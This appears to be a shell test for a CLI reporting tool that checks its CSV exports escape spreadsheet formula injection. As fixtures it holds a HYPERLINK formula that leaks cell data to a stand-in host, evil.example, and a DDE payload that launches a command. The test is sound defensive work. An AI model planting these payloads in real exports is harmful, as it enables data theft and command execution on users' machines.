#!/usr/bin/env bash
# CSV reports are safe to open in a spreadsheet: a text cell a spreadsheet would take for a
# formula (= + - @, tab, CR first) is written with a leading ', a cell holding CR or LF
# (or a comma or a quote) is quoted, and plain numbers such as -5 or -1,5 stay numbers.
set -euo pipefail
PATH=/usr/bin:$PATH  # not a pyenv shim: python3 runs often here
source "$KINERJA_SOURCE_DIR/tests/cli/lib.bash"
export KINERJA_SYNCHRONOUS=OFF
new_store
"$kinerja" rb add --year 2024 --area '=HYPERLINK("http://evil.example/?x="&A1,"klik")' --action '@SUM(1+1)' \
  --due 2024-Q1 --output '-5' --target '-1,5' >/dev/null
"$kinerja" rb add --year 2024 --area $'\tTab' --action $'baris satu\rbaris dua' --due 2024-Q2 \
  --output '-2+3' --target $'dua\nbaris' >/dev/null
"$kinerja" risk add --year 2024 --sasaran SK1 --risiko '+cmd|'"' /C calc'"'!A0' --perlakuan $'\rCR' --pj '-' \
  --keberhasilan 'biasa, dengan koma' >/dev/null
"$kinerja" innovation add --year 2024 --name '=1+1' --kepanjangan '-x' --kategori layanan --deskripsi '@x' \
  --tujuan '"kutip"' --output o --cadence c --status berjalan >/dev/null

for what in rb risks innovations; do
  "$kinerja" report "$what" --year 2024 --format csv >"$work/$what.csv"
done
python3 - "$work" <<'PY'
import csv, sys
work = sys.argv[1]
def cells(name):
    raw = open(f"{work}/{name}.csv", newline="").read()
    return raw, [c for row in csv.reader(raw.splitlines(keepends=True)) for c in row]
raw, rb = cells("rb")
for want in ['\'=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'@SUM(1+1)", "-5", "-1,5", "'\tTab",
             "baris satu\rbaris dua", "'-2+3", "dua\nbaris"]:
    assert want in rb, (want, rb)
assert '"baris satu\rbaris dua"' in raw and '"dua\nbaris"' in raw, raw
raw, risks = cells("risks")
for want in ["'+cmd|' /C calc'!A0", "'\rCR", "-", "biasa, dengan koma"]:
    assert want in risks, (want, risks)
assert "\"'\rCR\"" in raw, raw
raw, inno = cells("innovations")
for want in ["'=1+1", "'-x", "'@x", '"kutip"']:
    assert want in inno, (want, inno)
for c in rb + risks + inno:
    assert c == "" or c[0] not in "=+@\t\r" and (c[0] != "-" or c == "-" or c.lstrip("-").replace(",", "").replace(".", "").isdigit()), c
PY
# Figures stay plain numbers in every CSV report (the PK table as before).
"$kinerja" record --indicator LAYANAN --period 2024 --numerator 95 --denominator 100 >/dev/null
"$kinerja" target set --year 2024 --indicator LAYANAN --value 90 >/dev/null
grep -q ',95.00,' <<<"$("$kinerja" report pk --year 2024 --format csv)" || fail "report pk csv lost its numbers"
echo "csv output: ok"
